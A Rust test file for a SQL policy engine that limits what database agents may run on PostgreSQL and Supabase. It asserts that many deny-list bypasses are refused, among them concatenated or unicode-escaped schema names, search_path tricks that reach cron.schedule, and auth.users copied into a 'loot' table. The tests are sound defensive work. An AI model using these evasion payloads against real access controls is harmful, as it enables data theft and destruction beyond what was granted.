//! Deny lists and classes against SQL that reaches a schema or a function in unusual ways: a
//! schema or table named by a string to a known function, SQL text built at run time, attribute
//! notation, a `search_path` set earlier in the body. Runs natively and as wasm32.
#![allow(clippy::expect_used, clippy::unwrap_used, clippy::panic)]

use bollard::policy::Policy;
use wasm_bindgen_test::wasm_bindgen_test;

#[path = "support/sql_agents.rs"]
mod sql_agents;
use sql_agents::{decide_body, json, policy, QUERY};

/// `guarded`: every class, auth and vault denied (the README's "may do anything but touch auth").
fn guarded() -> Policy {
    policy(
        &[
            ("guarded", r#""access":{"database":"full"},"sql":{"deny_schemas":["auth","vault"]}"#),
            (
                "scripted",
                r#""access":{"database":"full"},"sql":{"allow":["read","procedural"],"deny_schemas":["auth"],"deny_functions":["pg_terminate_backend","dblink"]}"#,
            ),
            (
                "analyst",
                r#""access":{"database":"full"},"sql":{"allow":["read"],"deny_functions":["public.expensive"]}"#,
            ),
        ],
        "enforce",
    )
}

fn refused(p: &Policy, agent: usize, sql: &str) -> (u16, &'static str) {
    let body = format!(r#"{{"query":{}}}"#, json(sql));
    let d = decide_body(p, agent, "POST", QUERY, &body);
    (d.refusal_status().unwrap_or(200), d.reason.code())
}

/// Every body of the list refused with 403 sql_not_allowed; the failure lists all that were not.
fn all_refused(p: &Policy, cases: &[(usize, &str)]) {
    let passed: Vec<String> = cases
        .iter()
        .filter(|(agent, sql)| refused(p, *agent, sql) != (403, "sql_not_allowed"))
        .map(|(agent, sql)| format!("agent {agent}: {sql} -> {:?}", refused(p, *agent, sql)))
        .collect();
    assert!(passed.is_empty(), "{} of {} allowed:\n{}", passed.len(), cases.len(), passed.join("\n"));
}

/// A schema named by a string to the xml functions that dump a whole schema (or every schema):
/// `schema_to_xml('auth', ...)` returns every row of every table in auth.
#[wasm_bindgen_test(unsupported = test)]
fn schema_dumped_by_name_is_refused() {
    let p = guarded();
    // Control: the same read through the table's name is refused.
    assert_eq!(refused(&p, 0, "select table_to_xml('auth.users', true, true, '')"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (0, "select schema_to_xml('auth', true, true, '')"),
            (0, "select schema_to_xml_and_xmlschema('auth', true, true, '')"),
            (0, "select database_to_xml(true, true, '')"),
        ],
    );
}

/// A table in a denied schema named by a string to a known function that reads or changes it
/// (README: "the strings of those calls (and of dblink) are read as code ... for denied schemas").
#[wasm_bindgen_test(unsupported = test)]
fn denied_table_named_by_a_string_is_refused() {
    let p = guarded();
    // Control: a string that dblink runs as SQL is read for schemas.
    let remote = "select * from dblink('dbname=postgres', 'select email from auth.users') as t(email text)";
    assert_eq!(refused(&p, 0, remote), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            // dblink: an INSERT holding the row's values, the row read locally by the table's name.
            (0, "select dblink_build_sql_insert('auth.sessions', '1', 1, '{1}', '{1}')"),
            // pageinspect: the table's raw pages (its rows), by the table's name.
            (0, "select * from heap_page_items(get_raw_page('auth.users', 0))"),
            // pg_partman, TimescaleDB, PostGIS: an auth table's partitions, chunks, columns dropped.
            (0, "select partman.drop_partition_time('auth.events', '1 year')"),
            (0, "select drop_chunks('auth.events', interval '1 day')"),
            (0, "select DropGeometryColumn('auth', 'users', 'geom')"),
        ],
    );
}

/// SQL run from a string built at run time: the pieces name no denied schema or function, the
/// string they make does. A `search_path` built the same way is refused ("a value that is not
/// one constant"); the SQL text of a call that runs it is not.
#[wasm_bindgen_test(unsupported = test)]
fn sql_text_built_at_run_time_is_refused() {
    let p = guarded();
    // Controls: the same SQL as one constant is refused.
    assert_eq!(
        refused(&p, 1, "select query_to_xml('select * from auth.users', true, true, '')"),
        (403, "sql_not_allowed")
    );
    assert_eq!(refused(&p, 1, "do $$ begin execute 'select * from auth.users'; end $$"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (1, "select query_to_xml('select * from au' || 'th.users', true, true, '')"),
            (1, "select query_to_xml(format('select * from %I.users', 'auth'), true, true, '')"),
            (1, "select query_to_xml('select pg_terminate_' || 'backend(pid) from pg_stat_activity', true, true, '')"),
            (0, "do $$ begin execute 'create table public.copy as select * from au' || 'th.users'; end $$"),
            (1, "do $$ begin execute format('create temp table c as select * from %I.users', 'auth'); end $$"),
        ],
    );
}

/// PostgreSQL calls a function of one composite argument written as a column: `o.expensive` is
/// `expensive(o)` (Composite Types, "Using Composite Types in Queries").
#[wasm_bindgen_test(unsupported = test)]
fn denied_function_in_attribute_notation_is_refused() {
    let p = guarded();
    assert_eq!(refused(&p, 2, "select expensive(o) from orders o"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (2, "select o.expensive from orders o"),
            (2, "select (o).expensive from orders o"),
            (2, "select orders.expensive from public.orders"),
        ],
    );
}

/// `cron.schedule`, `graphql.resolve` and pgmq's calls are known only when the call names their
/// schema (`functions.rs`: "a `schema.name` entry ... matches only calls that name that schema").
/// A body that first puts that schema on its `search_path` then calls the name bare reaches the
/// same function, and is judged `read` + `admin`: SQL scheduled to run later (a DROP) by an agent
/// without `procedural` (or `destroy`).
#[wasm_bindgen_test(unsupported = test)]
fn known_function_reached_through_a_search_path_set_in_the_body_is_refused() {
    let p = policy(&[("ops", r#""access":{"database":"full"},"sql":{"allow":["read","admin"]}"#)], "enforce");
    // Control: the qualified call is refused (procedural).
    assert_eq!(
        refused(&p, 0, "select cron.schedule('wipe', '* * * * *', 'drop table public.orders')"),
        (403, "sql_not_allowed")
    );
    all_refused(
        &p,
        &[
            (0, "set search_path = cron, public; select schedule('wipe', '* * * * *', 'drop table public.orders')"),
            (0, "select set_config('search_path', 'cron', false); select schedule('wipe', '* * * * *', 'drop table public.orders')"),
            (0, "set search_path = graphql; select resolve('mutation { deleteFromOrdersCollection(atMost: 1000) { affectedCount } }')"),
        ],
    );
}

#[wasm_bindgen_test(unsupported = test)]
fn ordinary_sql_beside_those_forms_still_passes() {
    let p = policy(
        &[
            ("guarded", r#""access":{"database":"full"},"sql":{"deny_schemas":["auth","vault"]}"#),
            (
                "scripted",
                r#""access":{"database":"full"},"sql":{"allow":["read","procedural","admin"],"deny_schemas":["auth"],"deny_functions":["pg_terminate_backend","dblink"]}"#,
            ),
            (
                "analyst",
                r#""access":{"database":"full"},"sql":{"allow":["read"],"deny_functions":["public.expensive"]}"#,
            ),
            ("open", r#""access":{"database":"full"},"sql":{"allow":["read","procedural","admin"]}"#),
            ("ops", r#""access":{"database":"full"},"sql":{"allow":["read","admin"]}"#),
        ],
        "enforce",
    );
    for (agent, sql) in [
        // Columns through aliases and schemas: possible attribute calls of names nobody denied.
        (2, "select o.id, o.total from public.orders o where o.status = 'open'"),
        (2, "select (o).total from (select orders as o from public.orders) s"),
        // A known function whose strings name nothing denied.
        (0, "select pg_cancel_backend(pid) from pg_stat_activity where usename = 'bob' and query like 'select%'"),
        (0, "select table_to_xml('public.orders', true, true, '')"),
        // SQL that runs from one constant string, or a DO block that executes one.
        (1, "select query_to_xml('select id from public.orders', true, true, '')"),
        (1, "do $$ begin execute 'select 1'; end $$"),
        (1, "do $$ declare n int; begin execute 'select count(*) from public.orders' into n; end $$"),
        // SQL built at run time, for an agent with no deny list: its classes decide.
        (3, "select query_to_xml('select ' || '1', true, true, '')"),
        (3, "do $$ begin execute format('select %s', 1); end $$"),
        // A search_path that leads nowhere denied, then bare calls of unknown functions.
        (1, "set search_path = public; select lower('X'), count(*) from orders"),
    ] {
        assert_eq!(refused(&p, agent, sql), (200, "access_full"), "agent {agent}: {sql}");
    }
    // The search path makes a bare call the known function it may be, for classes too.
    assert_eq!(
        refused(&p, 3, "set search_path = cron; select schedule('j', '* * * * *', 'select 1')"),
        (200, "access_full")
    );
    assert_eq!(refused(&p, 4, "set search_path = public; select schedule('j')"), (200, "access_full"));
    assert_eq!(
        refused(&p, 4, "set search_path = cron; select schedule('j', '* * * * *', 'select 1')"),
        (403, "sql_not_allowed")
    );
}

#[wasm_bindgen_test(unsupported = test)]
fn sql_scheduled_through_a_search_path_is_read_for_deny_lists() {
    let p = policy(
        &[(
            "scripted",
            r#""access":{"database":"full"},"sql":{"allow":["read","procedural","admin"],"deny_schemas":["auth"],"deny_functions":["pg_terminate_backend"]}"#,
        )],
        "enforce",
    );
    assert_eq!(
        refused(&p, 0, "select cron.schedule('j', '* * * * *', 'insert into public.loot select * from auth.users')"),
        (403, "sql_not_allowed")
    );
    all_refused(
        &p,
        &[
            (0, "set search_path = cron, public; select schedule('j', '* * * * *', 'insert into public.loot select * from auth.users')"),
            (0, "set search_path = cron, public; select schedule('j', '* * * * *', 'select pg_terminate_backend(1)')"),
            (0, "set search_path = cron, public; select schedule('j', '* * * * *', 'select * from au' || 'th.users')"),
        ],
    );
}

#[wasm_bindgen_test(unsupported = test)]
fn sql_nested_deeper_than_is_read_is_refused() {
    let p = guarded();
    let nest = |inner: &str, tag: &str| format!("select query_to_xml(${tag}${inner}${tag}$, true, true, '')");
    let three = nest(&nest(&nest("select email from auth.users", "a"), "b"), "c");
    assert_eq!(refused(&p, 1, &three), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (1, &nest(&three, "d")),
            (1, "do $a$ begin execute $b$ do $c$ begin execute $d$ create table public.loot as select * from auth.users $d$; end $c$ $b$; end $a$"),
        ],
    );
}

#[wasm_bindgen_test(unsupported = test)]
fn strings_and_columns_beside_known_functions_that_name_nothing_pass() {
    let p = policy(
        &[
            (
                "writer",
                r#""access":{"database":"full"},"sql":{"allow":["read","write"],"deny_schemas":["auth","storage"]}"#,
            ),
            ("ops", r#""access":{"database":"full"},"sql":{"allow":["read","admin"]}"#),
            (
                "analyst",
                r#""access":{"database":"full"},"sql":{"allow":["read"],"deny_functions":["public.expensive"]}"#,
            ),
        ],
        "enforce",
    );
    for (agent, sql) in [
        (0, "insert into public.events (id, kind) values (nextval('public.events_id_seq'), 'auth')"),
        (0, "insert into public.sites (id, host) values (nextval('public.sites_id_seq'), 'auth.acme.com')"),
        (0, "select nextval('public.s'), settings->>'storage' from public.apps"),
        (1, "set search_path = cron, public; select j.jobname, j.schedule from job j"),
        (2, "select * from public.expensive"),
        (2, "select e.id from public.expensive e join public.orders o on o.id = e.id"),
    ] {
        assert_eq!(refused(&p, agent, sql), (200, "access_full"), "agent {agent}: {sql}");
    }
}

#[wasm_bindgen_test(unsupported = test)]
fn a_search_path_set_many_times_leads_where_its_last_values_do() {
    // Ten thousand settings to a schema no known function lives in, then one to `cron`: only the
    // statements after that one are read as reaching `cron.schedule`.
    let body = "set search_path=a;".repeat(10_000) + "set search_path = cron; select schedule('j')";
    let statements = bollard::sql::analyze(&body);
    assert_eq!(statements.len(), 10_002);
    assert!(statements.last().unwrap().classes.contains(bollard::sql::SqlClass::Procedural));
    assert!(!statements[9_999].classes.contains(bollard::sql::SqlClass::Procedural));
}

#[wasm_bindgen_test(unsupported = test)]
fn relation_named_by_a_value_built_at_run_time_is_refused() {
    let p = guarded();
    // Control: the constant name is refused.
    assert_eq!(
        refused(&p, 0, "select * from heap_page_items(get_raw_page('auth.users', 0))"),
        (403, "sql_not_allowed")
    );
    all_refused(
        &p,
        &[
            (0, "select * from heap_page_items(get_raw_page('au' || 'th.users', 0))"),
            (0, "select * from (values ('auth.users')) t(n), lateral heap_page_items(get_raw_page(n, 0))"),
            (0, "select get_raw_page(c.oid::regclass::text, 0) from pg_class c where c.relnamespace = 'auth'::regnamespace"),
            (0, "select dblink_build_sql_insert('au' || 'th.sessions', '1', 1, '{1}', '{1}')"),
            (0, "select drop_chunks('au' || 'th.events', interval '1 day')"),
            (0, "select partman.drop_partition_time('au' || 'th.events', '1 year')"),
            (0, "select DropGeometryColumn('au' || 'th', 'users', 'geom')"),
        ],
    );
}

/// The WAL and logical decoding return rows of every schema's tables, as `database_to_xml` does
/// (README: "any schema's rows, whatever the statement names").
#[wasm_bindgen_test(unsupported = test)]
fn every_schema_read_through_the_wal_is_refused() {
    let p = guarded();
    assert_eq!(refused(&p, 0, "select database_to_xml(true, true, '')"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (0, "select block_data from pg_get_wal_block_info('0/0', 'FFFFFFFF/FFFFFFFF')"),
            (0, "select data from pg_logical_slot_peek_changes('s', null, null)"),
        ],
    );
}

/// A bare call in a function body runs under the search path of the session that calls the
/// function, not of the statement that creates it: here the path is set after the CREATE.
#[wasm_bindgen_test(unsupported = test)]
fn bare_call_in_a_function_body_run_under_a_path_set_later_is_refused() {
    let p = policy(
        &[(
            "builder",
            r#""access":{"database":"full"},"sql":{"allow":["read","procedural","admin"],"deny_schemas":["auth"]}"#,
        )],
        "enforce",
    );
    let create = "create function public.g() returns void language plpgsql as $$ begin perform schedule('w', '* * * * *', 'insert into public.loot select * from au' || 'th.users'); end $$";
    // Control: the path set first, the same CREATE is refused.
    assert_eq!(refused(&p, 0, &format!("set search_path = cron, public; {create}")), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (0, &format!("{create}; set search_path = cron, public; select public.g()")),
            // The same in two requests: this one, then `set search_path = cron, public; select public.g()`.
            (0, create),
        ],
    );
}

/// A DO block in another language: its strings are not SQL strings to the tokenizer (a
/// JavaScript "..." is a quoted name), and plv8 runs SQL without an EXECUTE.
#[wasm_bindgen_test(unsupported = test)]
fn body_in_another_language_is_refused_for_deny_lists() {
    let p = guarded();
    assert_eq!(refused(&p, 1, "do $$ begin perform email from auth.users; end $$"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[(
            1,
            r#"do language plv8 $$ var plan = plv8.prepare("select email from auth.users"); var c = plan.cursor(); c.fetch(); $$"#,
        )],
    );
}

/// Attribute notation followed by a subscript or a field: `(o).expensive[1]` calls `expensive(o)`.
#[wasm_bindgen_test(unsupported = test)]
fn denied_function_in_attribute_notation_with_indirection_is_refused() {
    let p = guarded();
    assert_eq!(refused(&p, 2, "select (o.expensive).total from public.orders o"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (2, "select (o).expensive[1] from public.orders o"),
            (2, "select o.expensive[1] from public.orders o"),
            (2, "select (o).expensive.total from public.orders o"),
        ],
    );
}

/// In a body, `FROM` three tokens before `o.expensive` is not always a relation's: `IS DISTINCT FROM`.
#[wasm_bindgen_test(unsupported = test)]
fn denied_function_in_attribute_notation_after_distinct_from_in_a_body_is_refused() {
    let q = policy(
        &[(
            "scripted",
            r#""access":{"database":"full"},"sql":{"allow":["read","procedural"],"deny_functions":["public.expensive"]}"#,
        )],
        "enforce",
    );
    assert_eq!(
        refused(&q, 0, "do $$ begin perform o.expensive from public.orders o; end $$"),
        (403, "sql_not_allowed")
    );
    all_refused(&q, &[(0, "do $$ begin perform 1 from public.orders o where 0 is distinct from o.expensive; end $$")]);
}

/// PostgreSQL joins string constants separated by a newline: `'cr'\n'on'` is `'cron'`.
#[wasm_bindgen_test(unsupported = test)]
fn search_path_split_across_lines_is_read_whole() {
    let p = policy(
        &[("ops", r#""access":{"database":"full"},"sql":{"allow":["read","admin"],"allow_unparsed":true}"#)],
        "enforce",
    );
    assert_eq!(
        refused(&p, 0, "set search_path = 'cron'; select schedule('wipe', '* * * * *', 'drop table public.orders')"),
        (403, "sql_not_allowed")
    );
    all_refused(
        &p,
        &[(0, "set search_path = 'cr'\n'on'; select schedule('wipe', '* * * * *', 'drop table public.orders')")],
    );
}

/// Ordinary SQL for an agent kept out of auth, storage and vault.
#[wasm_bindgen_test(unsupported = test)]
fn ordinary_supabase_sql_with_known_functions_passes() {
    let p = policy(
        &[("supa", r#""access":{"database":"full"},"sql":{"deny_schemas":["auth","storage","vault"]}"#)],
        "enforce",
    );
    let passed_wrongly: Vec<String> = [
        // `EXECUTE FUNCTION` of a trigger, `GRANT EXECUTE`: no dynamic SQL.
        "do $$ begin create trigger orders_touch before update on public.orders for each row execute function public.touch_updated_at(); exception when duplicate_object then null; end $$",
        "do $$ begin grant execute on function public.get_stats() to authenticated; end $$",
        "create or replace function public.setup() returns void language plpgsql as $$ begin create trigger t after insert on public.orders for each row execute procedure public.notify_order(); end $$",
        // Strings to known functions that take no schema or table by name.
        "select net.http_post(url := 'https://hooks.example.com/ingest', body := jsonb_build_object('event', 'storage.object.created'))",
        "select net.http_post('https://hooks.example.com/ingest', jsonb_build_object('source', 'storage'))",
        "select pg_notify('storage', 'bucket changed')",
        // Named arguments, all constants.
        "select graphql_public.graphql(query := '{ ordersCollection { edges { node { id } } } }')",
        "select cron.schedule(job_name := 'cleanup', schedule := '0 3 * * *', command := 'delete from public.events')",
    ]
    .iter()
    .filter(|sql| refused(&p, 0, sql) != (200, "access_full"))
    .map(|sql| format!("{sql} -> {:?}", refused(&p, 0, sql)))
    .collect();
    assert!(passed_wrongly.is_empty(), "refused:\n{}", passed_wrongly.join("\n"));
}

/// Nested calls of a known function that the grammar cannot parse (past its depth) are still
/// scanned: each call's arguments are read to the end of the body, O(n^2).
#[wasm_bindgen_test(unsupported = test)]
fn deeply_nested_and_very_wide_statements_are_judged() {
    let p = guarded();
    // Five thousand nested calls of a function that takes a name: past the grammar's depth, so
    // unparsed (one pass keeps the open calls, so this costs what flat calls do).
    let n = 5_000;
    let nested = format!("select {}'a'{}", "get_raw_page(".repeat(n), ")".repeat(n));
    assert_eq!(refused(&p, 0, &nested), (403, "sql_unparsed"));
    // Twenty thousand distinct column names through an alias: possible attribute calls, each
    // added once by hash, none denied.
    let cols: Vec<String> = (0..20_000).map(|i| format!("t.c{i}")).collect();
    assert_eq!(refused(&p, 2, &format!("select {} from public.t", cols.join(", "))), (200, "access_full"));
    let names: Vec<String> = (0..20_000).map(|i| format!("'s{i}'")).collect();
    assert_eq!(refused(&p, 0, &format!("select pg_notify({})", names.join(", "))), (200, "access_full"));
    // Strings continued across a hundred thousand line breaks, and as many pieces: each joined
    // once.
    let gaps = format!("select 'a'{}'b'", "\n".repeat(100_000));
    assert_eq!(refused(&p, 0, &gaps), (200, "access_full"));
    let pieces = format!("select 'a'{}", "\n'b'".repeat(20_000));
    assert_eq!(refused(&p, 0, &pieces), (200, "access_full"));
}

/// PostgreSQL joins string constants separated by a newline, so a body given in two strings is
/// one body: `do 'begin perform pg_term'` newline `'inate_backend(...); end'` calls
/// `pg_terminate_backend`. The same for the names a known function takes (PostGIS's
/// four-argument `DropGeometryColumn(catalog, schema, table, column)`).
#[wasm_bindgen_test(unsupported = test)]
fn body_split_across_lines_is_read_whole() {
    let p = guarded();
    assert_eq!(
        refused(&p, 1, "do 'begin perform pg_terminate_backend(pg_backend_pid()); end'"),
        (403, "sql_not_allowed")
    );
    all_refused(
        &p,
        &[
            (1, "do 'begin perform pg_term'\n'inate_backend(pg_backend_pid()); end'"),
            (1, "do 'begin perform email from au'\n'th.users; end'"),
            (1, "create function public.f() returns void language plpgsql as 'begin perform pg_term'\n'inate_backend(1); end'"),
            (1, "do $$ begin execute 'select email from au'\n'th.users'; end $$"),
            (0, "select DropGeometryColumn('', 'au'\n'th', 'users', 'geom')"),
        ],
    );
    // One string on its line, beside others on theirs, is read as it is.
    assert_eq!(refused(&p, 1, "do $$ begin raise notice 'a'; raise notice 'b'; end $$"), (200, "access_full"));
}

/// `U&'...' UESCAPE '!'` is a string whose escapes start with `!`: `U&'pg_terminate!005fbackend'`
/// is `'pg_terminate_backend'`. The grammar's tokenizer decodes `\` escapes only.
#[wasm_bindgen_test(unsupported = test)]
fn body_with_its_own_unicode_escape_character_is_refused() {
    let p = guarded();
    assert_eq!(
        refused(&p, 1, r"do U&'begin perform pg_terminate\005fbackend(pg_backend_pid()); end'"),
        (403, "sql_not_allowed")
    );
    // Unparsed where the statement is; in a body, a body that may call anything.
    for sql in [
        "do U&'begin perform pg_terminate!005fbackend(pg_backend_pid()); end' UESCAPE '!'",
        "do U&'begin perform email from !0061uth.users; end' UESCAPE '!'",
        "create function public.f() returns void language plpgsql as U&'begin perform pg_terminate!005fbackend(1); end' UESCAPE '!'",
    ] {
        assert_eq!(refused(&p, 1, sql), (403, "sql_unparsed"), "{sql}");
    }
    all_refused(
        &p,
        &[(
            1,
            "do $a$ begin execute $b$ do U&'begin perform pg_terminate!005fbackend(1); end' uescape '!' $b$; end $a$",
        )],
    );
}

/// A body the grammar's tokenizer cannot read, though PostgreSQL can: `#--` is an operator to the
/// tokenizer, and the quote after it starts a string that never ends; PostgreSQL reads `#` and a
/// comment, then the call.
#[wasm_bindgen_test(unsupported = test)]
fn body_the_tokenizer_cannot_read_is_refused_for_deny_lists() {
    let p = guarded();
    assert_eq!(
        refused(&p, 1, "do $$ begin perform 1 # 2; perform pg_terminate_backend(pg_backend_pid()); end $$"),
        (403, "sql_not_allowed")
    );
    all_refused(
        &p,
        &[
            (1, "do $$ begin perform 1 #-- '\n 2; perform pg_terminate_backend(pg_backend_pid()); end $$"),
            (1, "do $$ begin perform 1 #-- '\n 2; perform email from auth.users; end $$"),
            (1, "do $$ begin execute 'select 1 #-- ''\n 2, pg_terminate_backend(1)'; end $$"),
        ],
    );
    // A string in a body that is not code, and that the tokenizer cannot read as code, passes.
    assert_eq!(refused(&p, 1, "do $$ begin raise notice 'it''s done'; end $$"), (200, "access_full"));
}

/// SQL the tokenizer cannot split into statements (PostgreSQL would read a comment where it reads
/// an operator, a NUL, lines after `COPY ... FROM STDIN`) may be any statements: with
/// `allow_unparsed` it needs every class, and it may reach any schema and call any function.
#[wasm_bindgen_test(unsupported = test)]
fn unsplittable_sql_with_allow_unparsed_needs_every_class() {
    let p = policy(
        &[
            ("loose", r#""access":{"database":"full"},"sql":{"allow":["read","admin"],"allow_unparsed":true}"#),
            (
                "loose-guarded",
                r#""access":{"database":"full"},"sql":{"allow":["read","write","ddl","destroy","privilege","procedural","admin"],"allow_unparsed":true,"deny_schemas":["auth"]}"#,
            ),
            ("loose-all", r#""access":{"database":"full"},"sql":{"allow_unparsed":true}"#),
        ],
        "enforce",
    );
    // Control: split where it can be, the DROP needs destroy.
    assert_eq!(refused(&p, 0, "select 1 END; drop table public.orders"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (0, "select 1 #--\n 2; drop table public.orders"),
            (0, "copy public.orders from stdin;\ndrop table public.orders;"),
            (1, "select 1 #--\n 2; select email from auth.users"),
        ],
    );
    assert_eq!(refused(&p, 2, "select 1 #--\n 2; drop table public.orders"), (200, "access_full"));
}

/// With `allow_unparsed`, a statement the grammar cannot parse has no tree to show its attribute
/// calls: `o.expensive` among its words is `expensive(o)` all the same.
#[wasm_bindgen_test(unsupported = test)]
fn denied_function_in_attribute_notation_in_unparsed_sql_is_refused() {
    let p = policy(
        &[(
            "loose",
            r#""access":{"database":"full"},"sql":{"allow":["read"],"allow_unparsed":true,"deny_functions":["public.expensive"]}"#,
        )],
        "enforce",
    );
    assert_eq!(refused(&p, 0, "select expensive(o) from public.orders o END"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[(0, "select o.expensive from public.orders o END"), (0, "select (o).expensive from public.orders o END")],
    );
    assert_eq!(refused(&p, 0, "select o.id from public.orders o END"), (200, "access_full"));
}

/// `SET SCHEMA 'cron'` is PostgreSQL's other spelling of `SET search_path TO 'cron'` (unparsed by
/// the grammar): a bare call after it may be cron's.
#[wasm_bindgen_test(unsupported = test)]
fn search_path_set_as_schema_is_followed() {
    let p = policy(
        &[("ops", r#""access":{"database":"full"},"sql":{"allow":["read","admin"],"allow_unparsed":true}"#)],
        "enforce",
    );
    all_refused(
        &p,
        &[
            (0, "set schema 'cron'; select schedule('wipe', '* * * * *', 'drop table public.orders')"),
            (0, "set local schema 'cron'; select schedule('wipe', '* * * * *', 'drop table public.orders')"),
        ],
    );
    assert_eq!(refused(&p, 0, "set schema 'public'; select schedule('j')"), (200, "access_full"));
}

/// With `standard_conforming_strings` off, PostgreSQL reads a backslash in a '...' string as an
/// escape: `'x\' , '` is one string, and what follows is SQL (the tokenizer reads two strings, as
/// PostgreSQL does by default). A statement that turns it off, for the session or for every later
/// session of a role or database, lets a later body hide any statement in what seem strings.
#[wasm_bindgen_test(unsupported = test)]
fn setting_that_changes_how_strings_are_read_is_refused() {
    let p = policy(
        &[
            ("ops", r#""access":{"database":"full"},"sql":{"allow":["read","admin"]}"#),
            ("guarded", r#""access":{"database":"full"},"sql":{"deny_schemas":["auth"],"allow_unparsed":true}"#),
        ],
        "enforce",
    );
    // What a later body would hide: a DROP for `ops`, a read of auth for `guarded`.
    assert_eq!(refused(&p, 0, r"select 'x\' , ' ; drop table public.orders; --'"), (200, "access_full"));
    all_refused(
        &p,
        &[
            (0, "set standard_conforming_strings = off"),
            (0, "set session standard_conforming_strings to off"),
            (0, "select set_config('standard_conforming_strings', 'off', false)"),
            (0, "select set_config(name, 'off', false) from (values ('standard_conforming_strings')) v(name)"),
            (1, "alter role current_user set standard_conforming_strings = off"),
            (1, "alter database postgres set standard_conforming_strings to off"),
            (1, "update pg_settings set setting = 'off' where name = 'standard_conforming_strings'"),
            (1, "create function public.f() returns void language sql set standard_conforming_strings = off as 'select 1'"),
        ],
    );
    // Read, not set.
    assert_eq!(refused(&p, 0, "show standard_conforming_strings"), (200, "access_full"));
    assert_eq!(refused(&p, 0, "select current_setting('standard_conforming_strings')"), (200, "access_full"));
}

/// postgres_fdw reads a foreign table from the schema its `schema_name` option names: through a
/// server that leads back to this database, a table in public is auth.users.
#[wasm_bindgen_test(unsupported = test)]
fn foreign_table_over_a_denied_schema_is_refused() {
    let p = policy(
        &[(
            "builder",
            r#""access":{"database":"full"},"sql":{"allow":["read","write","ddl"],"deny_schemas":["auth"]}"#,
        )],
        "enforce",
    );
    // Control: the table itself is refused.
    assert_eq!(refused(&p, 0, "select email from auth.users"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (0, "create foreign table public.u (email text) server loop options (schema_name 'auth', table_name 'users')"),
            (0, "alter foreign table public.u options (set schema_name 'auth')"),
            (0, "create foreign table public.u (email text) server loop options (table_name 'users', \"schema_name\" 'auth')"),
        ],
    );
    assert_eq!(
        refused(
            &p,
            0,
            "create foreign table public.u (id int) server loop options (schema_name 'public', table_name 'orders')"
        ),
        (200, "access_full")
    );
}

/// `ALTER ROLE ... SET search_path` (or a database's, or a function's) outlives the request: a
/// bare `schedule(...)` sent later is `cron.schedule`, with no `SET` in its body to show it. The
/// statement that sets such a path needs the classes of the known functions it leads to.
#[wasm_bindgen_test(unsupported = test)]
fn search_path_that_outlives_the_request_needs_the_classes_it_leads_to() {
    let p = policy(
        &[
            ("keeper", r#""access":{"database":"full"},"sql":{"allow":["read","privilege"]}"#),
            ("loose", r#""access":{"database":"full"},"sql":{"allow":["read","ddl","admin"],"allow_unparsed":true}"#),
        ],
        "enforce",
    );
    // What a later request sends: a bare call, judged read.
    assert_eq!(
        refused(&p, 0, "select schedule('wipe', '* * * * *', 'drop table public.orders')"),
        (200, "access_full")
    );
    all_refused(
        &p,
        &[
            (0, "alter role postgres set search_path = cron, public"),
            (0, "alter role current_user in database postgres set search_path to 'cron'"),
            (1, "alter database postgres set search_path = cron, public"),
            (1, "alter function public.f() set search_path = cron"),
        ],
    );
    assert_eq!(refused(&p, 0, "alter role postgres set search_path = public, extensions"), (200, "access_full"));
    assert_eq!(refused(&p, 1, "alter function public.f() set search_path = ''"), (200, "access_full"));
}

/// `CREATE CAST ... WITH FUNCTION name` may name the function without its argument types: every
/// cast of that type then calls it (unparsed by the grammar, so with `allow_unparsed`).
#[wasm_bindgen_test(unsupported = test)]
fn denied_function_bound_to_a_cast_without_its_arguments_is_refused() {
    let p = policy(
        &[(
            "loose",
            r#""access":{"database":"full"},"sql":{"allow":["read","ddl","procedural"],"allow_unparsed":true,"deny_functions":["public.expensive"]}"#,
        )],
        "enforce",
    );
    assert_eq!(
        refused(&p, 0, "create cast (public.order_row as int) with function public.expensive(public.order_row)"),
        (403, "sql_not_allowed")
    );
    all_refused(
        &p,
        &[
            (0, "create cast (public.order_row as int) with function public.expensive as implicit"),
            (0, "create cast (public.order_row as int) with function expensive"),
        ],
    );
    assert_eq!(
        refused(&p, 0, "create cast (public.order_row as int) with function public.order_total as implicit"),
        (200, "access_full")
    );
}

/// Functions of Supabase's own schemas and extensions that write, change the schema or grant,
/// called from a SELECT: each needs the class of what it does, so `database: read` (with
/// `read_only`) or `allow: ["read", "write"]` does not reach it.
#[wasm_bindgen_test(unsupported = test)]
fn supabase_functions_that_write_or_grant_need_their_class() {
    let p = policy(
        &[
            ("reader", r#""access":{"database":"read"}"#),
            ("writer", r#""access":{"database":"full"},"sql":{"allow":["read","write"]}"#),
            ("migrator", r#""access":{"database":"full"},"sql":{"allow":["read","write","ddl"]}"#),
        ],
        "enforce",
    );
    let read_only = |sql: &str| {
        let body = format!(r#"{{"query":{},"read_only":true}}"#, json(sql));
        let d = decide_body(&p, 0, "POST", QUERY, &body);
        (d.refusal_status().unwrap_or(200), d.reason.code())
    };
    // Control: a known writer is refused, a plain read allowed.
    assert_eq!(read_only("select pgmq.send('jobs', '{}')"), (403, "sql_not_allowed"));
    assert_eq!(read_only("select storage.search('avatars', 'x/')"), (200, "read_only_sql"));
    let writes = [
        // Storage: its prefix rows deleted and written (SECURITY DEFINER), locks taken.
        "select storage.delete_prefix('avatars', 'users/1')",
        "select storage.delete_leaf_prefixes(array['avatars'], array['users/1'])",
        "select storage.add_prefixes('avatars', 'users/1/a.png')",
        "select storage.lock_top_prefixes(array['avatars'], array['users'])",
        // Realtime: a broadcast sent to every subscriber; the replication slot consumed.
        "select realtime.send('{}'::jsonb, 'e', 'room', false)",
        "select realtime.broadcast_changes('room', 'e', 'INSERT', 't', 'public', null, null)",
        "select * from realtime.list_changes('supabase_realtime', 'slot', 10, 1024)",
        // pgmq: queues made, notified, read in groups (each read moves the message), topics sent.
        "select pgmq.create_non_partitioned('jobs')",
        "select pgmq.enable_notify_insert('jobs')",
        "select pgmq.disable_notify_insert('jobs')",
